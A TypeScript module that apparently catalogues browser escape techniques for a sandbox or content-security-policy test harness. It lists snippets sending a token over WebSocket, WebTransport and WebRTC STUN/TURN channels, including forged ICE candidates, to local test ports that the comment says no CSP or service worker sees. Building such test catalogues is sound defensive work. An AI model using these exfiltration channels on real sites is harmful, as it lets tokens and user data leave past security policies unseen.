import { type Escape, port } from '../escape'

const socket = '(target.replace("http", "ws") + "/x?" + token)'
const gather = (server: string) => `
  const peer = new RTCPeerConnection({ iceServers: [${server}] })
  peer.createDataChannel('a')
  await peer.setLocalDescription(await peer.createOffer())`

/** Sockets and WebRTC, which no content security policy and no service worker sees. */
export const sockets: readonly Escape[] = [
  { name: 'WebSocket', short: true, code: `new WebSocket(${socket})` },
  { name: 'WebSocketStream', code: `new WebSocketStream(${socket})` },
  { name: 'WebTransport', only: 'elsewhere', code: `new WebTransport('https://127.0.0.1:' + ${port} + '/x?' + token)` },
  { name: 'WebRTC by STUN', short: true, only: 'elsewhere', code: gather(`{ urls: 'stun:127.0.0.1:' + ${port} }`) },
  {
    name: 'WebRTC by TURN',
    only: 'elsewhere',
    code: gather(`{ urls: 'turn:127.0.0.1:' + ${port}, username: token, credential: 'a' }`),
  },
  {
    name: 'WebRTC by TURN over TCP',
    short: true,
    only: 'elsewhere',
    code: gather(`{ urls: 'turn:127.0.0.1:' + ${port} + '?transport=tcp', username: token, credential: 'a' }`),
  },
  { name: 'WebRTC, name of a STUN server', only: 'elsewhere', names: true, code: gather(`{ urls: 'stun:' + host + ':' + ${port} }`) },
  {
    name: 'WebRTC, candidate of a far end',
    only: 'elsewhere',
    code: `const peer = new RTCPeerConnection()
      peer.createDataChannel('a')
      const offer = await peer.createOffer()
      await peer.setLocalDescription(offer)
      const sdp = offer.sdp.replace(/a=setup:actpass/g, 'a=setup:active').replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:' + token)
      await peer.setRemoteDescription({ type: 'answer', sdp })
      const candidate = 'candidate:1 1 udp 2113937151 127.0.0.1 ' + ${port} + ' typ host'
      await peer.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 })`,
  },
]
